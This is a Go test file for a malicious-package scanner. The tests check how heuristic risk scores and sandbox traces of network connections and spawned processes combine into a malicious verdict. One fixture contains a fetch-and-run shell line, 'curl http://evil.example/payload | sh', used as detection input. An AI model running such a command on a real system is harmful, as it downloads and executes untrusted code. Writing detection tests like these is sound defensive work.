package deepscan

import (
	"strings"
	"testing"

	"github.com/slopspotter/slopscan/internal/heuristics"
	"github.com/slopspotter/slopscan/internal/sandbox"
)

func intp(v int) *int { return &v }

func cleanVerdict() heuristics.Verdict {
	return heuristics.Verdict{
		RiskLevel: heuristics.RiskLow,
		Score:     0.1,
		Summary:   "No strong red flags detected",
		Signals:   map[string]heuristics.SubSignal{},
	}
}

func riskyVerdict() heuristics.Verdict {
	return heuristics.Verdict{
		RiskLevel: heuristics.RiskHigh,
		Score:     0.8,
		Summary:   "Suspicious token; Declares install scripts",
		Signals: map[string]heuristics.SubSignal{
			"install": {Score: 0.6, Reason: "Declares install scripts"},
		},
	}
}

func TestCombineCleanRun(t *testing.T) {
	cfg := DefaultCombineConfig()
	trace := &sandbox.Trace{
		InstallExitCode:    intp(0),
		ImportExitCode:     intp(0),
		NetworkConnections: []string{"151.101.0.223:443"},
	}

	r := Combine(cfg, cleanVerdict(), trace, SourceContainer)
	if r.IsMalicious {
		t.Errorf("clean run flagged malicious: %v", r.Indicators)
	}
	if r.Confidence != cfg.CleanConfidence {
		t.Errorf("confidence = %.2f, want %.2f", r.Confidence, cfg.CleanConfidence)
	}
	if r.Source != SourceContainer {
		t.Errorf("source = %s", r.Source)
	}
}

func TestCombineFlagsNonRegistryConnection(t *testing.T) {
	cfg := DefaultCombineConfig()
	trace := &sandbox.Trace{
		InstallExitCode:    intp(0),
		ImportExitCode:     intp(0),
		NetworkConnections: []string{"203.0.113.7:4444"},
	}

	r := Combine(cfg, cleanVerdict(), trace, SourceContainer)
	if !r.IsMalicious {
		t.Fatal("connection to a non-registry port should flag malicious")
	}
	if r.Confidence != cfg.BehaviorConfidence {
		t.Errorf("behavior-only confidence = %.2f, want %.2f", r.Confidence, cfg.BehaviorConfidence)
	}
}

func TestCombineFlagsSuspiciousSpawn(t *testing.T) {
	cfg := DefaultCombineConfig()
	trace := &sandbox.Trace{
		InstallExitCode: intp(0),
		ImportExitCode:  intp(0),
		ProcessSpawns:   []string{"sh -c curl http://evil.example/payload | sh"},
	}

	r := Combine(cfg, cleanVerdict(), trace, SourceVM)
	if !r.IsMalicious {
		t.Fatal("piped shell download should flag malicious")
	}
	found := false
	for _, ind := range r.Indicators {
		if strings.Contains(ind, "Suspicious process") {
			found = true
		}
	}
	if !found {
		t.Errorf("missing spawn indicator: %v", r.Indicators)
	}
	if r.Source != SourceVM {
		t.Errorf("source = %s", r.Source)
	}
}

func TestCombineImportFailureWithRiskyInstall(t *testing.T) {
	cfg := DefaultCombineConfig()
	trace := &sandbox.Trace{
		InstallExitCode: intp(0),
		ImportExitCode:  intp(1),
	}

	r := Combine(cfg, riskyVerdict(), trace, SourceContainer)
	if !r.IsMalicious {
		t.Fatal("failed import plus install-hook risk should flag malicious")
	}
	if r.Confidence != cfg.AgreeConfidence {
		t.Errorf("both tiers agree, confidence = %.2f, want %.2f", r.Confidence, cfg.AgreeConfidence)
	}
}

func TestCombineHeuristicOnlyHasLowerConfidence(t *testing.T) {
	cfg := DefaultCombineConfig()
	trace := &sandbox.Trace{InstallExitCode: intp(0), ImportExitCode: intp(0)}

	r := Combine(cfg, riskyVerdict(), trace, SourceContainer)
	if !r.IsMalicious {
		t.Fatal("high heuristic risk should carry through")
	}
	if r.Confidence >= cfg.AgreeConfidence {
		t.Errorf("single-tier confidence %.2f should be below agreement %.2f", r.Confidence, cfg.AgreeConfidence)
	}
}

func TestSuspiciousEndpoint(t *testing.T) {
	cfg := DefaultCombineConfig()
	cases := []struct {
		endpoint string
		want     bool
	}{
		{"pypi.org:443", false},
		{"files.pythonhosted.org:443", false},
		{"cdn.registry.npmjs.org:443", false},
		{"evil.example:443", true},
		{"127.0.0.1:8080", false},
		{"10.0.0.5:443", false},
		{"203.0.113.7:443", false},
		{"203.0.113.7:4444", true},
		{"198.51.100.2:53", false},
	}
	for _, tc := range cases {
		if got := cfg.suspiciousEndpoint(tc.endpoint); got != tc.want {
			t.Errorf("suspiciousEndpoint(%q) = %v, want %v", tc.endpoint, got, tc.want)
		}
	}
}

func TestSimulateIsLabeled(t *testing.T) {
	cfg := DefaultCombineConfig()

	r := Simulate(cfg, "flask-installer", "no container daemon", cleanVerdict())
	if r.Source != SourceSimulated {
		t.Fatalf("source = %s", r.Source)
	}
	if !r.IsMalicious {
		t.Error("suspicious name shape should flag in simulated mode")
	}
	if r.Confidence != cfg.SimulatedConfidence {
		t.Errorf("confidence = %.2f, want %.2f", r.Confidence, cfg.SimulatedConfidence)
	}

	benign := Simulate(cfg, "requests", "no container daemon", cleanVerdict())
	if benign.IsMalicious {
		t.Error("benign name should not flag in simulated mode")
	}
}
